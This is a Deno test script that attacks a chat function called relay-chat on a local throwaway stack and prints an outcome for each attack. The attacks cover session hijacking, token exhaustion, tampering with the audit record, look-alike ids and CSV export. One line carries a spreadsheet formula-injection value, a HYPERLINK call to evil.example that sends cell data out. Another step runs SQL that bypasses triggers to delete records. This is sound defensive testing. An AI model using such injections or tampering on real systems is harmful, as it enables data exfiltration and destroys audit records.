/**
 * relay-chat tried as an attacker would, with figures: over HTTP through the local gateway
 * (which plays the platform's proxy: each client address is a loopback source address), on a
 * throw-away PostgreSQL database, with an OpenAI-compatible stub on loopback as the LLM that
 * reports a grounded turn's tokens. Runs against this checkout or another one's supabase folder
 * (e.g. an older commit's, with its own node_modules or a link to this one's), so the same
 * attacks can be told before and after a change:
 *
 *   pnpm --filter @firm/supabase attacks [supabase dir]
 *
 * (To run another checkout with its own import map, as it would run deployed: `deno run -A
 * --unstable-no-legacy-abort --config <dir>/deno.json dev/attacks.ts <dir>`.)
 *
 * Prints one line per attack: what was tried, and what came of it.
 */
const dir = new URL(`${Deno.args[0] ?? new URL('../', import.meta.url).pathname}/`, 'file:///');
const load = (path: string) => import(new URL(path, dir).href);
const { createServerDatabase } = await load('testing/databases.ts');
const { serveGateway } = await load('dev/gateway.ts');
const { run: transcripts } = await load('scripts/transcripts.ts');
const { sqlTurnStore } = await load('functions/_shared/db/stores.ts');
const { connectPostgres } = await load('functions/_shared/db/postgres.ts');

const SITE = 'https://firm.example';
const ANON = 'anon-key';
const VICTIM = '127.0.0.2';
const STRANGER = '127.0.0.3';
const encoder = new TextEncoder();
const report = (attack: string, outcome: string) => {
  Deno.stdout.writeSync(encoder.encode(`${attack}: ${outcome}\n`));
};
// The function's own log lines are not what this prints.
console.log = () => {};

/** The LLM: streams `Answer <n>.`, reports the prompt at four characters a token and 300 more. */
function llm(options: { cut?: boolean; delayMs?: number } = {}) {
  const calls: { messages: { role: string; content: string }[] }[] = [];
  const chunk = (data: unknown) => `data: ${JSON.stringify(data)}\n\n`;
  const server = Deno.serve({ hostname: '127.0.0.1', port: 0, onListen() {} }, async (request) => {
    const body = await request.json();
    calls.push(body);
    const n = calls.length;
    const chars = body.messages.reduce(
      (sum: number, m: { content: string }) => sum + m.content.length,
      0,
    );
    if (options.delayMs) await new Promise((resolve) => setTimeout(resolve, options.delayMs));
    const text =
      chunk({ choices: [{ delta: { content: 'Answer ' } }] }) +
      (options.cut
        ? ''
        : chunk({ choices: [{ delta: { content: `${n}.` } }] }) +
          chunk({ choices: [{ delta: {}, finish_reason: 'stop' }] }) +
          chunk({
            choices: [],
            usage: { prompt_tokens: Math.ceil(chars / 4), completion_tokens: 300 },
          }) +
          'data: [DONE]\n\n');
    return new Response(text, { headers: { 'content-type': 'text/event-stream' } });
  });
  return { url: `http://127.0.0.1:${server.addr.port}/v1`, calls, stop: () => server.shutdown() };
}

/** A gateway on a fresh database, configured as production, with `env` on top. */
async function stack(env: Record<string, string> = {}, upstream = llm()) {
  const database = await createServerDatabase();
  // The function's own store on the database, as the function's role, counting its starts.
  const relay = connectPostgres(database.relayUrl);
  const store = sqlTurnStore(relay);
  let starts = 0;
  const turns = {
    ...store,
    start: (...args: unknown[]) => {
      starts++;
      return store.start(...args);
    },
  };
  const vars: Record<string, string> = {
    SUPABASE_DB_URL: database.url,
    CHAT_DB_URL: database.relayUrl,
    IP_HASH_SALT: 'attacks',
    SUPABASE_ANON_KEY: ANON,
    ALLOWED_ORIGINS: SITE,
    OPENAI_API_KEY: 'sk-stub',
    OPENAI_BASE_URL: upstream.url,
    ...env,
  };
  for (const [name, value] of Object.entries(vars)) if (value === '') delete vars[name];
  const controller = new AbortController();
  const { address, server } = await serveGateway({
    port: 0,
    env: (name: string) => vars[name],
    turns,
    signal: controller.signal,
  });
  const url = `http://127.0.0.1:${address.port}/functions/v1/relay-chat`;
  const clients = new Map<string, Deno.HttpClient>();
  /** Each client address's conversations: the secret and id the function issued, as a client keeps them. */
  const kept = new Map<string, { id: string; key: string }>();
  let n = 0;
  const send = async (
    ip: string,
    body: Record<string, unknown>,
    { keep = true, headers = {} }: { keep?: boolean; headers?: Record<string, string> } = {},
  ) => {
    if (!clients.has(ip)) clients.set(ip, Deno.createHttpClient({ localAddress: ip }));
    const named = String(body.session_id ?? `s-${ip}-${++n}`);
    const session = keep ? kept.get(`${ip} ${named}`) : undefined;
    const response = await fetch(url, {
      method: 'POST',
      client: clients.get(ip),
      headers: {
        'content-type': 'application/json',
        origin: SITE,
        apikey: ANON,
        ...(session && { 'session-key': session.key }),
        ...headers,
      },
      body: JSON.stringify({
        message: 'When should I claim Social Security?',
        timestamp: Date.now(),
        source: SITE,
        history: [],
        message_id: `m-${++n}`,
        ...body,
        session_id: session?.id ?? named,
      }),
    });
    const opened = response.headers.get('session-id');
    if (opened && keep) {
      kept.set(`${ip} ${named}`, { id: opened, key: response.headers.get('session-key') ?? '' });
    }
    const text = await response.text();
    let reply: string | undefined;
    try {
      reply = JSON.parse(text).response;
    } catch {
      reply = text;
    }
    return { status: response.status, reply, opened };
  };
  const query = async <R>(sql: string, params: unknown[] = []) =>
    (await database.db.query(sql, params)) as R[];
  return {
    url,
    upstream,
    send,
    query,
    dbUrl: database.url as string,
    starts: () => starts,
    async close() {
      controller.abort();
      await server.finished;
      await relay.close();
      for (const client of clients.values()) client.close();
      await upstream.stop();
      await database.drop();
    },
  };
}

const count = <T>(values: T[], test: (value: T) => boolean) => values.filter(test).length;
const tally = (statuses: number[]) => {
  const byStatus: Record<number, number> = {};
  for (const status of statuses) byStatus[status] = (byStatus[status] ?? 0) + 1;
  return Object.entries(byStatus)
    .map(([status, n]) => `${n}×${status}`)
    .join(' ');
};

// --- A stranger with a visitor's session_id ----------------------------------------------------
for (const path of ['LLM', 'embedded'] as const) {
  const s = await stack({
    RATE_LIMIT_SESSION_PER_MINUTE: '10',
    ...(path === 'embedded' ? { OPENAI_API_KEY: '', OPENAI_BASE_URL: '' } : {}),
  });
  try {
    const first = 'My daughter Alice starts college in 2031. What is a 529 plan?';
    const v1 = await s.send(VICTIM, { session_id: 'visitor-1', message_id: 'v1', message: first });
    await s.send(VICTIM, {
      session_id: 'visitor-1',
      message_id: 'v2',
      message: 'Who can open one?',
    });
    const [{ victims = [] } = {}] = await s.query<{ victims: number[] }>(
      `select array_agg(id::int) as victims from chat_turns where session_id = 'visitor-1'`,
    );
    const callsBefore = s.upstream.calls.length;
    const asked = await s.send(
      STRANGER,
      { session_id: 'visitor-1', message: 'What did we talk about?' },
      { keep: false },
    );
    const shownRows = await s.query<{ context: number[] }>(
      `select context_turn_ids::int[] as context from chat_turns where ip_hash <> (
         select ip_hash from chat_turns where session_id = 'visitor-1' and message_id = 'v1') order by id desc limit 1`,
    );
    const shown = count(shownRows[0]?.context ?? [], (id) => victims.includes(id));
    const prompt = JSON.stringify(s.upstream.calls.slice(callsBefore));
    report(
      `hijack (${path}): a stranger's turn naming the visitor's session_id`,
      `status ${asked.status}; the visitor's turns shown to the stranger's ${path === 'LLM' ? 'LLM call' : 'answer'}: ${shown} of ${victims.length}` +
        (path === 'LLM'
          ? `; visitor's words in the stranger's prompt: ${/Alice|Who can open/.test(prompt) ? 'yes' : 'no'}`
          : '') +
        `; answered in conversation ${asked.opened ? `'${asked.opened.slice(0, 8)}…' (its own)` : "'visitor-1' (the visitor's)"}`,
    );
    const calls = s.upstream.calls.length;
    const replay = await s.send(
      STRANGER,
      { session_id: 'visitor-1', message_id: 'v1', message: first },
      { keep: false },
    );
    report(
      `hijack (${path}): the stranger replays the visitor's message_id with its message`,
      `status ${replay.status}; reply is the visitor's recorded reply: ${replay.reply === v1.reply && path === 'LLM' ? 'yes' : path === 'LLM' ? 'no' : replay.opened ? 'no (a new turn of its own)' : 'yes (replayed)'}` +
        (path === 'LLM'
          ? `; LLM asked: ${s.upstream.calls.length > calls ? 'yes (a new turn)' : 'no (replayed from the record)'}`
          : ''),
    );
    const probe = await s.send(
      STRANGER,
      { session_id: 'visitor-1', message_id: 'v2', message: 'Did I ask about college?' },
      { keep: false },
    );
    report(
      `hijack (${path}): the stranger probes the visitor's message_id with a guess`,
      `status ${probe.status} (${probe.status === 400 ? 'confirms the id was used' : 'confirms nothing'})`,
    );
    const flood = [];
    for (let i = 0; i < 10; i++) {
      flood.push(
        (
          await s.send(
            STRANGER,
            { session_id: 'visitor-1', message: `Question ${i}?` },
            { keep: false },
          )
        ).status,
      );
    }
    const [{ written = 0 } = {}] = await s.query<{ written: number }>(
      `select count(*)::int as written from chat_turns where session_id = 'visitor-1'
         and ip_hash <> (select ip_hash from chat_turns where session_id = 'visitor-1' and message_id = 'v1')`,
    );
    const next = await s.send(VICTIM, {
      session_id: 'visitor-1',
      message_id: 'v3',
      message: 'How much can I put in?',
    });
    const lastPrompt = JSON.stringify(s.upstream.calls.at(-1) ?? {});
    report(
      `hijack (${path}): the stranger sends 10 turns naming the session (its limit: 10 a minute)`,
      `stranger ${tally(flood)}; stranger's turns written into the visitor's conversation: ${written}; ` +
        `the visitor's next turn: ${next.status}` +
        (path === 'LLM' && next.status === 200
          ? `; the stranger's words in the visitor's next prompt: ${/Question \d|What did we talk/.test(lastPrompt) ? 'yes' : 'no'}`
          : ''),
    );
  } finally {
    await s.close();
  }
}

// --- Tokens -------------------------------------------------------------------------------------
const tokens = (s: Awaited<ReturnType<typeof stack>>, where = 'true') =>
  s
    .query<{ tokens: number; llm: number; assistant: number }>(
      `select coalesce(sum(prompt_tokens + completion_tokens), 0)::int as tokens,
         count(*) filter (where model is not null and model <> 'knowledge-base')::int as llm,
         count(*) filter (where model = 'knowledge-base')::int as assistant
       from chat_turns where ${where}`,
    )
    .then(([row]) => row as { tokens: number; llm: number; assistant: number });

{
  const s = await stack();
  try {
    const statuses = await Promise.all(Array.from({ length: 30 }, () => s.send('127.0.1.1', {})));
    const spent = await tokens(s);
    report(
      'tokens: one address sends its minute of 30 turns (default 1,000,000-token day)',
      `${tally(statuses.map((r) => r.status))}; it spent ${spent.tokens.toLocaleString('en-US')} tokens (${spent.llm} LLM answers, ${spent.assistant} by the embedded assistant), ` +
        `${((spent.tokens / 1_000_000) * 100).toFixed(1)}% of the day` +
        (spent.assistant > 0
          ? '; its share spent, the embedded assistant answers it'
          : `; at 30 turns a minute it alone spends the day in ${Math.ceil(1_000_000 / spent.tokens)} minutes`),
    );
  } finally {
    await s.close();
  }
}

{
  const s = await stack({ LLM_TOKENS_PER_DAY: '200000' });
  try {
    const burst = await Promise.all(
      Array.from({ length: 150 }, (_, i) => s.send(`127.0.2.${1 + (i % 5)}`, {})),
    );
    const spent = await tokens(s);
    const later = await Promise.all(
      Array.from({ length: 20 }, (_, i) => s.send(`127.0.3.${i + 1}`, {})),
    );
    const after = await tokens(s);
    report(
      'tokens: five addresses burst 30 turns each (200,000-token day, default global caps)',
      `burst ${tally(burst.map((r) => r.status))}; spent ${spent.tokens.toLocaleString('en-US')} tokens (${((spent.tokens / 200_000) * 100).toFixed(0)}% of the day); ` +
        `20 later visitors: ${tally(later.map((r) => r.status))}, ${after.llm - spent.llm} answered by the LLM, ${after.assistant - spent.assistant} by the assistant`,
    );
  } finally {
    await s.close();
  }
}

{
  const budget = 20_000;
  const s = await stack({
    LLM_TOKENS_PER_DAY: String(budget),
    LLM_ADDRESS_SHARE: '1',
    LLM_SESSION_SHARE: '1',
  });
  try {
    const waves: string[] = [];
    for (let wave = 1; wave <= 3; wave++) {
      const statuses = await Promise.all(
        Array.from({ length: 40 }, (_, i) => s.send(`127.0.${3 + wave}.${i + 1}`, {})),
      );
      const spent = await tokens(s);
      waves.push(
        `after wave ${wave} (${tally(statuses.map((r) => r.status))}): ${spent.tokens.toLocaleString('en-US')} tokens = ${(spent.tokens / budget).toFixed(2)}× the budget, ${spent.llm} LLM answers, ${spent.assistant} by the assistant`,
      );
    }
    report(
      `tokens: waves of 40 concurrent turns against a ${budget.toLocaleString('en-US')}-token day`,
      waves.join('; '),
    );
  } finally {
    await s.close();
  }
}

// --- The record ---------------------------------------------------------------------------------
const ANCHOR_KEY = 'a'.repeat(32);
const cli = async (s: Awaited<ReturnType<typeof stack>>, args: string[]) => {
  let out = '';
  let err = '';
  const code = await transcripts(args, {
    env: {
      get: (name: string) =>
        ({ SUPABASE_DB_URL: s.dbUrl, TRANSCRIPTS_ANCHOR_KEY: ANCHOR_KEY })[name],
    },
    stdout: new WritableStream({
      write: (chunk) => {
        out += new TextDecoder().decode(chunk);
      },
    }),
    stderr: (line: string) => {
      err += line;
    },
  });
  return { code, out, err };
};

{
  const s = await stack();
  const data = decodeURIComponent(new URL('../.data/', import.meta.url).pathname);
  await Deno.mkdir(data, { recursive: true });
  const file = `${data}attacks-anchor-${crypto.randomUUID()}.jsonl`;
  try {
    for (const session of ['one', 'two']) {
      for (let i = 1; i <= 3; i++) {
        await s.send(VICTIM, {
          session_id: session,
          message_id: `${session}-${i}`,
          message: `Question ${i}?`,
        });
      }
    }
    const anchor = await cli(s, ['anchor']);
    const anchored = anchor.code === 0;
    if (anchored) await Deno.writeTextFile(file, anchor.out);
    // The newest turn of 'one' cut off together with its chain head, and 'two' deleted whole.
    await s.query(`do $$ declare h text; q bigint; begin
      set local session_replication_role = replica;
      delete from chat_turns where message_id = 'one-3';
      select coalesce(seal_hash, claim_hash), coalesce(seal_seq, claim_seq) into h, q
        from chat_turns where session_id = 'one' order by id desc limit 1;
      update chat_chains set head = h, seq = q where session_id = 'one';
      delete from chat_turns where session_id = 'two';
      delete from chat_chains where session_id = 'two';
    end $$`);
    const plain = await cli(s, ['verify']);
    const withAnchor = anchored ? await cli(s, ['verify', '--anchor', file]) : undefined;
    report(
      'record: the newest turn cut off with its chain head, and a conversation deleted with its chain',
      `verify: exit ${plain.code}, "${plain.out.trim().split('\n').at(-1)}"; ` +
        (withAnchor
          ? `verify --anchor: exit ${withAnchor.code}, ${withAnchor.out.trim().split('\n').slice(0, -1).join('; ')}`
          : 'no anchor command'),
    );
  } finally {
    await Deno.remove(file).catch(() => {});
    await s.close();
  }
}

{
  const s = await stack({}, llm({ cut: true }));
  try {
    const streamed = await fetch(s.url, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        origin: SITE,
        apikey: ANON,
        accept: 'text/event-stream',
      },
      body: JSON.stringify({
        message: 'When should I claim Social Security?',
        session_id: 'cut',
        message_id: 'cut-1',
        timestamp: 0,
        source: SITE,
        history: [],
      }),
    });
    const events = await streamed.text();
    const [row] = await s.query<{ status: string; reply: string | null; error_code: string }>(
      `select status, reply_redacted as reply, error_code from chat_turns where message_id = 'cut-1'`,
    );
    report(
      'record: the upstream dies mid-stream after the visitor saw "Answer "',
      `the visitor saw ${JSON.stringify(/"text":"([^"]*)"/.exec(events)?.[1] ?? '')}; recorded status ${row?.status}, reply ${JSON.stringify(row?.reply)}, error ${row?.error_code}`,
    );
  } finally {
    await s.close();
  }
}

// --- Smaller ------------------------------------------------------------------------------------
{
  const s = await stack({ OPENAI_API_KEY: '', OPENAI_BASE_URL: '' });
  try {
    // The message is trimmed before it is recorded; the page the body claims is not.
    const link = ' =HYPERLINK("http://evil.example/?"&A1)';
    await s.send(VICTIM, {
      session_id: 'csv',
      message_id: 'c1',
      message: 'Thanks; =1+2',
      source: link,
    });
    const exported = await cli(s, ['export', '--since', '2020-01-01', '--format', 'csv']);
    /** How a value's cell begins in the export: raw, or quoted and prefixed with '. */
    const cell = (value: string) => {
      const at = exported.out.indexOf(value.replaceAll('"', '""'));
      return at < 0 ? 'missing' : exported.out.slice(exported.out.lastIndexOf(',', at) + 1, at + 8);
    };
    report(
      'csv: a message "Thanks; =1+2" and a source \' =HYPERLINK(…)\' exported',
      `the cells begin ${JSON.stringify(cell('Thanks; =1+2'))} and ${JSON.stringify(cell(link))}`,
    );
    const ids: [string, string][] = [
      ['right-to-left override in session_id', 'visitor\u202e1'],
      ['zero-width space in session_id', 'visi\u200btor'],
      ['Cyrillic і in message_id', 'mіd'],
    ];
    const outcomes = [];
    for (const [what, id] of ids) {
      const field = what.endsWith('message_id') ? 'message_id' : 'session_id';
      outcomes.push(`${what}: ${(await s.send(VICTIM, { [field]: id })).status}`);
    }
    report('ids: look-alike and invisible characters', outcomes.join('; '));
  } finally {
    await s.close();
  }
}

{
  const s = await stack({}, llm({ delayMs: 12_000 }));
  try {
    // The conversation is opened first (the stub takes its 12 s), so the duplicate holds its secret.
    await s.send(VICTIM, { session_id: 'dup', message_id: 'd0', message: 'Hello' });
    const first = s.send(VICTIM, { session_id: 'dup', message_id: 'd1', message: 'When?' });
    await new Promise((resolve) => setTimeout(resolve, 500));
    const before = s.starts();
    const duplicate = await s.send(VICTIM, {
      session_id: 'dup',
      message_id: 'd1',
      message: 'When?',
    });
    const looks = s.starts() - before;
    report(
      'duplicate: the same message sent again while the first is answered (12 s)',
      `duplicate: ${duplicate.status} after ${looks} start_chat_turn calls`,
    );
    await first;
  } finally {
    await s.close();
  }
}
